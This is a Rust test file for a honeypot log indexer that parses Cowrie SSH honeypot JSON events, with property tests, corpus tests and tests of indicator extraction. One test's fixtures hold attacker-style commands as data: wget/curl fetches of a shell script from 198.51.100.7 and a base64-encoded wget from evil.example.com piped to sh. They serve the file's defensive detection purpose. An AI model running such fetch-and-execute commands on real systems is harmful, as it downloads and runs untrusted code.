//! The hot path held against the plainest computation of the same: serde_json values and maps.
use super::act::{Act, Acts, Sequence};
use super::batch::{Batch, Batcher, Known, StoredRun};
use super::*;
use crate::index::{BlockTerms, HOUR_UNKNOWN, session_key, term_hash};
use crate::sources::{CHUNK_BYTES, Chunk, Format, Origin, Reason, Source};
use proptest::prelude::*;
use serde_json::{Value, json};
use std::collections::{BTreeMap, BTreeSet};
use std::io::Read;
use std::sync::Arc;

const RECEIVED_AT: Micros = 1_790_000_000_000_000;

fn chunk(data: &[u8]) -> Chunk {
    let origin = Origin {
        source: Arc::new(Source { name: "test".into(), format: Format::COWRIE }),
        stream: "test".into(),
        run: 0,
        ordinal: 0,
        path: "test.json".into(),
        offset: 1_000,
        generation: 0,
        first_seen: 0,
        input_bytes: data.len() as u64,
        received_at: RECEIVED_AT,
        reflowed: false,
        checkpoint: Vec::new(),
        permit: None,
        only_sensors: None,
    };
    Chunk { origin, data: data.to_vec(), places: Vec::new(), refused: Vec::new(), stored: None }
}

fn run(events: u32) -> StoredRun<'static> {
    StoredRun { events, format: Some(Format::COWRIE), received_at: RECEIVED_AT, ids: &[] }
}

fn extract(data: &[u8]) -> Batch {
    Batcher::new().extract(chunk(data), &())
}

fn joined(lines: &[String]) -> Vec<u8> {
    lines.iter().flat_map(|line| [line.as_bytes(), b"\n"]).flatten().copied().collect()
}

/// Per (sensor, day): how many events.
type Cells = BTreeMap<(String, i32), u32>;

/// What a block's terms say, in an order of its own.
#[derive(Debug, Default, PartialEq)]
struct Summary {
    terms: BTreeMap<(Field, String), (Micros, Micros, Cells)>,
    sessions: BTreeMap<(u64, String), (Acts, Sequence, Micros, Micros)>,
    cells: Cells,
    activity: BTreeMap<(i32, String), Acts>,
    identity_hours: BTreeSet<i32>,
    ids: Vec<EventId>,
}

impl Summary {
    /// Of terms as they are, checking what they promise.
    fn of(terms: &BlockTerms) -> Summary {
        let name = |sensor: u16| String::from_utf8(terms.sensors[sensor as usize].to_vec()).unwrap();
        let cell = |cell: u16| (name(terms.cells[cell as usize].sensor), terms.cells[cell as usize].day);
        let mut summary = Summary { ids: terms.ids.clone(), ..Summary::default() };
        let mut counts = terms.counts.iter().peekable();
        for (index, term) in terms.terms.iter().enumerate() {
            let value = &terms.values[term.start as usize..][..term.len as usize];
            assert_eq!(term.hash, term_hash(term.field, value));
            // What texts name has its own tests; here random text names things by chance.
            let random = term.field.is_indicator() || term.field > Field::Cve;
            let mut cells = Cells::new();
            while let Some(count) = counts.next_if(|count| count.term == index as u32) {
                assert!(count.count > 0);
                assert_eq!(cells.insert(cell(count.cell), count.count), None, "one row per term and cell");
            }
            let key = (term.field, String::from_utf8(value.to_vec()).unwrap());
            if !random {
                assert_eq!(summary.terms.insert(key, (term.first, term.last, cells)), None, "terms are distinct");
            }
        }
        assert!(counts.next().is_none(), "counts are in the order of their terms");
        for part in &terms.sessions {
            let fresh = summary.sessions.insert((part.key, name(part.sensor)), (part.acts, part.sequence, part.first, part.last));
            assert_eq!(fresh, None, "sessions are distinct");
        }
        assert_eq!(terms.cells.len(), terms.cell_events.len());
        for (index, &events) in terms.cell_events.iter().enumerate() {
            assert_eq!(summary.cells.insert(cell(index as u16), events), None, "cells are distinct");
        }
        for row in &terms.activity {
            assert_eq!(summary.activity.insert((row.hour, name(row.sensor)), row.acts), None, "hours and sensors are distinct");
        }
        for &hour in &terms.identity_hours {
            assert!(summary.identity_hours.insert(hour), "identity hours are distinct");
        }
        summary
    }

    /// The same, computed the plain way. Lines must be events.
    fn naive(lines: &[&[u8]]) -> Summary {
        let mut summary = Summary::default();
        for line in lines {
            let Value::Object(event) = serde_json::from_slice(line).unwrap() else { panic!("an object") };
            let text = |name: &str| match event.get(name) {
                Some(Value::String(text)) => Some(text.clone()),
                Some(Value::Number(number)) => Some(number.to_string()),
                _ => None,
            };
            let own = match event.get("timestamp") {
                Some(Value::String(text)) => time::parse(text.as_bytes()),
                _ => None,
            };
            let time = own.filter(|own| (time::EARLIEST..=RECEIVED_AT + time::MICROS_PER_DAY).contains(own)).unwrap_or(RECEIVED_AT);
            let sensor = text("sensor").unwrap_or_default();
            let cell = (sensor.clone(), time::day_of(time));
            let mut terms = BTreeSet::new();
            for &field in Field::ALL.iter().filter(|field| !field.is_indicator() && **field <= Field::Cve) {
                let names: &[&str] = match field {
                    Field::Session => &[],
                    Field::Command => &["input", "attempted_command"],
                    _ => &[field.name()],
                };
                for value in names.iter().filter_map(|name| text(name)) {
                    if !value.is_empty() || matches!(field, Field::Username | Field::Password | Field::Command) {
                        terms.insert((field, value));
                    }
                }
            }
            let there = |field: Field| terms.iter().any(|term| term.0 == field);
            // Of several the last in the line, whose members are in the order of their names.
            let command = text("input").or_else(|| text("attempted_command"));
            let act = match text("eventid").unwrap_or_default().as_str() {
                "cowrie.session.connect" => Act::Connection,
                "cowrie.login.failed" => Act::LoginFailed,
                "cowrie.login.success" => Act::LoginSucceeded,
                "cowrie.command.input" => Act::Command,
                "cowrie.session.file_download" => Act::Download,
                "cowrie.session.file_upload" => Act::Upload,
                "cowrie.direct-tcpip.request" => Act::Tunnel,
                cowrie if cowrie.starts_with("cowrie.") => Act::Other,
                _ if there(Field::Command) => Act::Command,
                _ if there(Field::Password) => Act::LoginFailed,
                _ if there(Field::Shasum) => Act::Download,
                _ => Act::Other,
            };
            for term in terms {
                let (first, last, cells) = summary.terms.entry(term).or_insert((time, time, Cells::new()));
                (*first, *last) = ((*first).min(time), (*last).max(time));
                *cells.entry(cell.clone()).or_default() += 1;
            }
            if let Some(session) = text("session").filter(|session| !session.is_empty()) {
                let new = (Acts::default(), Sequence::default(), time, time);
                let part = summary.sessions.entry((session_key(session.as_bytes()), sensor.clone())).or_insert(new);
                part.0.count(act);
                if act == Act::Command
                    && let Some(command) = &command
                {
                    part.1 = part.1.then(Sequence::of(command.as_bytes()));
                }
                *part = (part.0, part.1, part.2.min(time), part.3.max(time));
            }
            *summary.cells.entry(cell).or_default() += 1;
            summary.activity.entry((time::hour_of(time), sensor)).or_default().count(act);
            summary.identity_hours.insert(own.map_or(HOUR_UNKNOWN, time::hour_of));
            summary.ids.push(EventId(blake3::hash(line).as_bytes()[..16].try_into().unwrap()));
        }
        summary
    }
}

fn lines_of(batch: &Batch) -> Vec<&[u8]> {
    (0..batch.ids.len()).map(|at| batch.line(at)).collect()
}

/// Whatever a batch promises about itself.
fn check(batch: &Batch) {
    let events = batch.events as usize;
    assert_eq!([batch.ids.len(), batch.times.len(), batch.identity_hours.len(), batch.ends.len()], [events; 4]);
    assert_eq!(batch.ends.last().map_or(0, |&end| end as usize), batch.lines.len());
    assert_eq!(batch.lines.iter().filter(|&&byte| byte == b'\n').count(), events);
    assert_eq!(batch.ids, batch.terms.ids);
    if events == 0 {
        assert!(batch.frame.is_empty());
    } else {
        assert_eq!(zstd::bulk::decompress(&batch.frame, batch.lines.len()).unwrap(), batch.lines);
        assert_eq!(zstd::zstd_safe::get_frame_content_size(&batch.frame).unwrap(), Some(batch.lines.len() as u64));
    }
    assert_eq!(Summary::of(&batch.terms), Summary::naive(&lines_of(batch)));
    let mut batcher = Batcher::new();
    for (at, line) in lines_of(batch).into_iter().enumerate() {
        assert_eq!(batcher.terms(Format::COWRIE, line, RECEIVED_AT, &mut |_, _| {}), Some(batch.times[at]));
        assert_eq!(EventId::of_line(line), batch.ids[at]);
    }
}

fn same(left: &Batch, right: &Batch) {
    assert_eq!((&left.lines, &left.ends, &left.ids, &left.times), (&right.lines, &right.ends, &right.ids, &right.times));
    assert_eq!((&left.identity_hours, &left.frame, left.events), (&right.identity_hours, &right.frame, right.events));
    assert_eq!(format!("{:?}", left.terms), format!("{:?}", right.terms));
}

/// Events as a fleet of a few sensors would send them, with clocks gone wrong and values repeated.
fn event_line() -> impl Strategy<Value = String> {
    const VALUES: &[&str] = &["a", "b", "", "root", "é\n\"", "\u{0}", "cowrie.command.input", "cowrie.session.connect"];
    const STRANGE_TIMES: &[&str] = &["1970-01-01T00:00:00Z", "2999-01-01T00:00:00Z", "1999-12-31T23:59:59.999999Z", "soon"];
    let value = || prop_oneof![3 => prop::sample::select(VALUES).prop_map(str::to_owned), 1 => any::<String>()];
    let time = prop_oneof![
        6 => (0i64..72).prop_map(|hours| Some(time::format(RECEIVED_AT - hours * time::MICROS_PER_HOUR))),
        1 => prop::sample::select(STRANGE_TIMES).prop_map(|time| Some(time.into())),
        1 => Just(None),
    ];
    let sensor = prop::sample::select(vec![None, Some("one"), Some("two"), Some("three")]);
    let session = prop::sample::select(vec![None, Some("c7ae63583837"), Some("1bb6d5d7"), Some("strange session"), Some("")]);
    let members = prop::collection::vec((prop::sample::select(Field::ALL), value()), 0..6);
    (time, sensor, session, members, 0u16..4, any::<bool>()).prop_map(|(time, sensor, session, members, port, pretty)| {
        let mut event = serde_json::Map::new();
        for (field, value) in members {
            let name = if field == Field::Command { "input" } else { field.name() };
            event.insert(name.into(), value.clone().into());
            if port == 3 {
                event.insert("attempted_command".into(), value.into());
            }
        }
        for (name, value) in [("timestamp", time.as_deref()), ("sensor", sensor), ("session", session)] {
            event.remove(name);
            if let Some(value) = value {
                event.insert(name.into(), value.into());
            }
        }
        event.insert("dst_port".into(), port.into());
        event.insert("message".into(), json!(["x", { "src_ip": "not a term" }]));
        let line = serde_json::to_string(&Value::Object(event)).unwrap();
        if pretty { format!(" {line}\r") } else { line }
    })
}

fn line() -> impl Strategy<Value = String> {
    const ODD: &[&str] = &["", " ", "\r", "junk", "{", "[1]", "{\"a\":\u{1}}", "[{\"a\":1},{\"b\":2}]"];
    prop_oneof![
        20 => event_line(),
        1 => prop::sample::select(ODD).prop_map(str::to_owned),
        1 => prop::collection::vec(event_line(), 0..4).prop_map(|events| format!("[{}]", events.join(" , "))),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn a_batch_is_what_the_plain_computation_says(lines in prop::collection::vec(line(), 0..40)) {
        check(&extract(&joined(&lines)));
    }

    #[test]
    fn retaining_some_is_as_if_the_others_had_never_been_there(lines in prop::collection::vec(line(), 0..40), seed: u64) {
        let mut batcher = Batcher::new();
        let mut batch = batcher.extract(chunk(&joined(&lines)), &());
        let keep: Vec<bool> = (0..batch.ids.len()).map(|at| seed >> (at % 64) & 1 == 1).collect();
        let kept: Vec<u8> = (0..keep.len()).filter(|&at| keep[at]).flat_map(|at| [batch.line(at), b"\n"].concat()).collect();
        let duplicates = batch.duplicates + keep.iter().filter(|&&keep| !keep).count() as u32;
        batch.retain(&keep, &mut batcher);
        check(&batch);
        prop_assert_eq!(batch.duplicates, duplicates);
        same(&batch, &extract(&kept));
    }

    #[test]
    fn stored_lines_give_the_same_index_again(lines in prop::collection::vec(line(), 0..60), cut: prop::sample::Index) {
        let batch = extract(&joined(&lines));
        let first = cut.index(batch.ids.len() + 1) as u32;
        let runs = [run(first), run(batch.events - first)];
        let (terms, times, ids) = Batcher::new().index(&batch.lines, &runs);
        prop_assert_eq!(format!("{terms:?}"), format!("{:?}", batch.terms));
        prop_assert_eq!((times, ids), (batch.times, batch.ids));
    }

    #[test]
    fn a_used_extractor_is_as_good_as_a_new_one(lines in prop::collection::vec(prop::collection::vec(line(), 0..20), 1..5)) {
        let mut batcher = Batcher::new();
        for lines in lines {
            let data = joined(&lines);
            same(&batcher.extract(chunk(&data), &()), &extract(&data));
        }
    }

    #[test]
    fn any_bytes_are_kept_or_refused(
        bytes in prop::collection::vec(prop_oneof![any::<u8>(), prop::sample::select(&b"{}[]\",:\n\\1"[..])], 0..300),
    ) {
        let batch = extract(&bytes);
        prop_assert_eq!(batch.ids.len(), batch.events as usize);
        prop_assert_eq!(batch.lines.iter().filter(|&&byte| byte == b'\n').count(), batch.events as usize);
        for refused in &batch.refused {
            prop_assert!(refused.offset >= 1_000 && !refused.detail.is_empty());
        }
    }
}

#[test]
fn the_chunk_s_own_buffer_is_the_batch_s_when_nothing_is_dropped() {
    let chunk = chunk(b"{\"a\":1}\n{\"a\":2}\n");
    let address = chunk.data.as_ptr();
    let batch = Batcher::new().extract(chunk, &());
    assert_eq!(batch.lines.as_ptr(), address);
    check(&batch);
}

#[test]
fn what_the_journal_has_is_counted_and_not_kept() {
    struct Second(EventId);
    impl Known for Second {
        fn mark(&self, ids: &[EventId], hours: &[i32], known: &mut [bool]) {
            assert_eq!((ids.len(), hours), (4, &[HOUR_UNKNOWN, HOUR_UNKNOWN, 492_816, HOUR_UNKNOWN][..]));
            assert_eq!(known, [false, false, false, true], "repetitions within the chunk need no look-up");
            known[1] = ids[1] == self.0;
        }
    }
    let data = b"{\"a\":1}\n{\"a\":2}\n{\"timestamp\":\"2026-03-22T00:10:42.831494Z\"}\n{\"a\":1}\n";
    let batch = Batcher::new().extract(chunk(data), &Second(EventId::of_line(b"{\"a\":2}")));
    assert_eq!((batch.duplicates, batch.events), (2, 2));
    check(&batch);
    assert_eq!(batch.lines, b"{\"a\":1}\n{\"timestamp\":\"2026-03-22T00:10:42.831494Z\"}\n");
}

#[test]
fn an_array_on_one_line_is_as_many_events() {
    let batch = extract(b"{\"a\":0}\n [{\"a\":1}, {\"a\":2},3,{\"a\":1}]\r\n[{\"a\":4},{\"a\"\n{\"a\":5}");
    assert_eq!(batch.lines, b"{\"a\":0}\n{\"a\":1}\n{\"a\":2}\n{\"a\":4}\n{\"a\":5}\n");
    assert!(batch.origin.reflowed);
    check(&batch);
    let refused: Vec<_> = batch.refused.iter().map(|refused| (refused.offset, &refused.bytes[..], &refused.detail[..])).collect();
    assert_eq!(
        refused,
        [(1_000 + 27, &b"3"[..], "element is not an object at column 20"), (1_000 + 48, &b"{\"a\""[..], "ends too early at column 14"),]
    );
    assert_eq!(batch.duplicates, 1);
}

#[test]
fn hostile_lines_cost_one_clear_refusal_each_and_their_neighbours_nothing() {
    let deep = format!("{{\"a\":{}{}}}", "[".repeat(10_000), "]".repeat(10_000));
    let long = format!("{{\"a\":\"{}\"}}", "x".repeat(10 << 20));
    let lines = ["{\"a\":1}", &deep, &long, "[[[[", "\u{1b}]0;evil\u{7}", "{\"a\":2}"].map(str::to_owned);
    let batch = extract(&joined(&lines));
    check(&batch);
    assert_eq!(batch.lines, b"{\"a\":1}\n{\"a\":2}\n");
    let reasons: Vec<Reason> = batch.refused.iter().map(|refused| refused.reason).collect();
    assert_eq!(reasons, [Reason::TooDeep, Reason::LineTooLong, Reason::NotAnObject, Reason::NotAnObject]);
    assert_eq!(batch.refused[1].len, long.len() as u64);
    assert_eq!(batch.refused[0].detail, "nested too deep at column 69");
}

#[test]
fn more_sensors_and_days_than_can_be_numbered_are_still_counted() {
    let mut data = Vec::new();
    for event in 0..70_000 {
        data.extend_from_slice(format!("{{\"sensor\":\"{event}\"}}\n").as_bytes());
    }
    let batch = extract(&data);
    assert_eq!(batch.terms.sensors.len(), 1 << 16);
    assert_eq!(batch.terms.cell_events.iter().sum::<u32>(), 70_000);
    assert_eq!(batch.terms.terms.len(), 70_000);
    assert_eq!(batch.terms.counts.iter().map(|row| row.count).sum::<u32>(), 70_000);
}

#[test]
fn a_stored_line_that_is_no_event_any_more_keeps_its_place() {
    let lines = b"{\"eventid\":\"a\"}\nnot json\n{\"eventid\":\"b\"}\n";
    let (terms, times, ids) = Batcher::new().index(lines, &[run(3)]);
    assert_eq!((terms.terms.len(), times), (2, vec![RECEIVED_AT; 3]));
    assert_eq!(ids[1], EventId::of_line(b"not json"));
}

/// Every line of the corpus: accepted or refused, as an independent reading of the same files says.
#[test]
fn reads_the_whole_corpus_as_serde_json_does() {
    let Some(corpus) = std::env::var_os("HONEYGUIDE_CORPUS") else {
        println!("skipped: HONEYGUIDE_CORPUS is not set");
        return;
    };
    let mut batcher = Batcher::new();
    let (mut files, mut events, mut duplicates, mut refused) = (0, 0u64, 0u64, BTreeMap::<(Reason, String), u32>::new());
    for set in ["modern-2026", "legacy-2017", "assorted"] {
        for entry in std::fs::read_dir(std::path::Path::new(&corpus).join("cowrie").join(set)).unwrap() {
            let path = entry.unwrap().path();
            let name = path.to_string_lossy().into_owned();
            if !name.ends_with(".gz") || name.contains(".csv") {
                continue;
            }
            files += 1;
            let mut data = Vec::new();
            flate2::read::MultiGzDecoder::new(std::fs::File::open(&path).unwrap()).read_to_end(&mut data).unwrap();

            let (mut expected_events, mut expected_refused) = (0u64, 0usize);
            for line in data.split(|&byte| byte == b'\n').filter(|line| !line.is_empty()) {
                match serde_json::from_slice(line) {
                    Ok(Value::Object(_)) => expected_events += 1,
                    Ok(Value::Array(events)) if events.iter().all(Value::is_object) => expected_events += events.len() as u64,
                    _ => expected_refused += 1,
                }
            }
            let (mut found_events, mut found_refused) = (0u64, 0usize);
            let mut rest = &data[..];
            while !rest.is_empty() {
                let least = CHUNK_BYTES.min(rest.len()) - 1;
                let end = memchr::memchr(b'\n', &rest[least..]).map_or(rest.len(), |at| least + at + 1);
                let batch = batcher.extract(chunk(&rest[..end]), &());
                check(&batch);
                let (terms, times, _) = batcher.index(&batch.lines, &[run(batch.events)]);
                assert_eq!((format!("{terms:?}"), times), (format!("{:?}", batch.terms), batch.times.clone()));
                found_events += u64::from(batch.events + batch.duplicates);
                duplicates += u64::from(batch.duplicates);
                found_refused += batch.refused.len();
                for record in batch.refused {
                    *refused.entry((record.reason, record.detail)).or_default() += 1;
                }
                rest = &rest[end..];
            }
            assert_eq!((found_events, found_refused), (expected_events, expected_refused), "{name}");
            events += found_events;
        }
    }
    println!("{files} files, {events} events of which {duplicates} repeated in their chunk, refused: {refused:?}");
    assert!(events > 160_000);
}

#[cfg(feature = "failpoints")]
mod failpoints {
    use super::*;

    #[test]
    fn a_poison_line_is_refused_and_the_rest_kept() {
        for point in ["decoder::line", "tally::event"] {
            let scenario = fail::FailScenario::setup();
            fail::cfg(point, "return(POISON)").unwrap();
            let lines =
                ["{\"input\":\"a\"}", "{\"input\":\"POISON\\n 1\"}", "{\"input\":\"b\"}", "{\"input\":\"POISON 2\"}", "{\"input\":\"a\"} "];
            let mut batcher = Batcher::new();
            let batch = batcher.extract(chunk(&joined(&lines.map(str::to_owned))), &());
            fail::cfg(point, "off").unwrap();
            check(&batch);
            assert_eq!(batch.lines, b"{\"input\":\"a\"}\n{\"input\":\"b\"}\n{\"input\":\"a\"} \n");
            let refused: Vec<_> = batch.refused.iter().map(|refused| (refused.reason, refused.bytes.as_slice())).collect();
            assert_eq!(refused, [(Reason::DecoderPanic, lines[1].as_bytes()), (Reason::DecoderPanic, lines[3].as_bytes())]);
            same(&batch, &extract(&batch.lines));

            fail::cfg(point, "return(POISON)").unwrap();
            let stored = joined(&lines.map(str::to_owned));
            let (terms, times, ids) = batcher.index(&stored, &[run(5)]);
            fail::cfg(point, "off").unwrap();
            assert_eq!((terms.terms.len(), times.len(), ids.len()), (4, 5, 5), "a command is a term of two fields");
            scenario.teardown();
        }
    }
}

/// The terms of a batch that are indicators, each with how many events have it.
fn indicators(batch: &Batch) -> BTreeMap<(&'static str, String), u32> {
    let events = |index: usize| batch.terms.counts.iter().filter(|count| count.term == index as u32).map(|count| count.count).sum();
    let terms = batch.terms.terms.iter().enumerate().filter(|(_, term)| term.field.is_indicator());
    let value = |term: &crate::index::BlockTerm| batch.terms.values[term.start as usize..][..term.len as usize].to_vec();
    terms.map(|(index, term)| ((term.field.name(), String::from_utf8(value(term)).unwrap()), events(index))).collect()
}

#[test]
fn what_texts_name_becomes_terms_and_is_counted_once_for_each_event() {
    let line = |n: u32, command: &str| {
        format!("{{\"eventid\":\"cowrie.command.input\",\"session\":\"{n:012x}\",\"input\":{}}}\n", serde_json::json!(command))
    };
    let data = [
        line(1, "wget http://198.51.100.7/x.sh; curl hxxp://198[.]51[.]100[.]7/x.sh"),
        line(2, "wget http://198.51.100.7/x.sh; curl hxxp://198[.]51[.]100[.]7/x.sh"),
        line(3, "echo d2dldCBodHRwOi8vZXZpbC5leGFtcGxlLmNvbS9i | base64 -d | sh"),
        line(3, "echo d2dldCBodHRwOi8vZXZpbC5leGFtcGxlLmNvbS9i | base64 -d | sh"),
        line(4, "uname -a"),
    ]
    .concat();
    let mut batcher = Batcher::new();
    let batch = batcher.extract(chunk(data.as_bytes()), &());
    let expected = [
        (("domain", "evil.example.com"), 1),
        (("ipv4", "198.51.100.7"), 2),
        (("url", "http://198.51.100.7/x.sh"), 2),
        (("url", "http://evil.example.com/b"), 1),
    ];
    let expected = expected.map(|((field, value), events)| ((field, value.to_owned()), events));
    assert_eq!(indicators(&batch), BTreeMap::from(expected));
    assert_eq!((batch.duplicates, batch.unread_texts), (1, 0));
    assert_eq!(batch.detections, [(Field::Url, 3), (Field::Domain, 1), (Field::Ipv4, 2)]);
    // A line's own URL is not counted as found in it again.
    let download = "{\"eventid\":\"cowrie.session.file_download\",\"url\":\"http://198.51.100.7/x.sh\"}\n";
    let batch = batcher.extract(chunk(download.as_bytes()), &());
    assert_eq!(batch.detections, [(Field::Ipv4, 1)]);
}

#[test]
fn more_distinct_texts_than_are_remembered_change_nothing() {
    let line = |n: u32| format!("{{\"input\":\"wget http://198.51.{}.{}/{n}\"}}\n", n / 256 % 256, n % 256);
    let mut remembering = Batcher::new();
    for first in (0..60_000).step_by(5_000) {
        let data: String = (first..first + 5_000).map(line).collect();
        let batch = remembering.extract(chunk(data.as_bytes()), &());
        let again = remembering.extract(chunk(data.as_bytes()), &());
        assert_eq!(indicators(&batch), indicators(&Batcher::new().extract(chunk(data.as_bytes()), &())));
        assert_eq!(indicators(&again), indicators(&batch));
        assert_eq!(batch.detections, [(Field::Url, 5_000), (Field::Ipv4, 5_000)]);
    }
}

/// Databases that know 198.51.100.0/24.
fn places() -> crate::geoip::Handle {
    use crate::geoip::mmdb::{Shape, written};
    use crate::geoip::{Database, Handle};
    let database = |shape, value| {
        let bytes = written(shape, &[("198.51.100.0/24", value)]);
        Some(Arc::new(Database::open(Arc::new(bytes)).expect("a database")))
    };
    let handle = Handle::default();
    handle.change(|databases| {
        databases.country = database(Shape::FlatCountry, "DE");
        databases.asn = database(Shape::FlatAsn, "64500");
    });
    handle
}

#[test]
fn an_event_is_where_its_address_is() {
    let handle = places();
    let mut batcher = Batcher::with_places(handle.clone());
    let mut terms = |line: &str| {
        let mut terms = Vec::new();
        batcher.terms(Format::COWRIE, line.as_bytes(), RECEIVED_AT, &mut |field, value| {
            terms.extend(field.is_place().then(|| (field, String::from_utf8_lossy(value).into_owned())));
        });
        terms
    };
    let known = vec![(Field::Country, "DE".to_owned()), (Field::Asn, "AS64500".to_owned())];
    assert_eq!(terms(r#"{"eventid":"cowrie.session.connect","src_ip":"198.51.100.7"}"#), known);
    assert_eq!(terms(r#"{"eventid":"cowrie.session.connect","src_ip":"198.51.100.\u0037"}"#), known, "as it is meant");
    for line in [
        r#"{"eventid":"x","src_ip":"203.0.113.7"}"#,
        r#"{"eventid":"x","src_ip":"::1"}"#,
        r#"{"eventid":"x","src_ip":"\ud800"}"#,
        r#"{"eventid":"x","src_ip":""}"#,
        r#"{"eventid":"x","dst_ip":"198.51.100.7"}"#,
        r#"{"eventid":"x"}"#,
    ] {
        assert_eq!(terms(line), [], "{line}");
    }
    handle.change(|databases| databases.country = None);
    assert_eq!(terms(r#"{"eventid":"x","src_ip":"198.51.100.7"}"#), known[1..], "other databases count from the next line on");
}

#[test]
fn places_are_indexed_alike_when_lines_come_and_from_stored_lines_and_are_no_detections() {
    let lines: String = (0..600).map(|n| format!("{{\"eventid\":\"x\",\"src_ip\":\"198.51.{}.{}\"}}\n", 99 + n % 3, n % 256)).collect();
    let mut batcher = Batcher::with_places(places());
    let batch = batcher.extract(chunk(lines.as_bytes()), &());
    assert_eq!((batch.events, &batch.detections[..]), (600, &[][..]));
    let count = |at: usize| batch.terms.counts.iter().filter(|row| row.term as usize == at).map(|row| row.count).sum();
    let terms = batch.terms.terms.iter().enumerate();
    let mut counts: Vec<(Field, u32)> = terms.filter(|(_, term)| term.field.is_place()).map(|(at, term)| (term.field, count(at))).collect();
    counts.sort_unstable();
    assert_eq!(counts, [(Field::Country, 200), (Field::Asn, 200)]);
    let (terms, ..) = Batcher::with_places(places()).index(&batch.lines, &[run(batch.events)]);
    assert_eq!(format!("{terms:?}"), format!("{:?}", batch.terms));
    same(&Batcher::with_places(Default::default()).extract(chunk(lines.as_bytes()), &()), &extract(lines.as_bytes()));
}
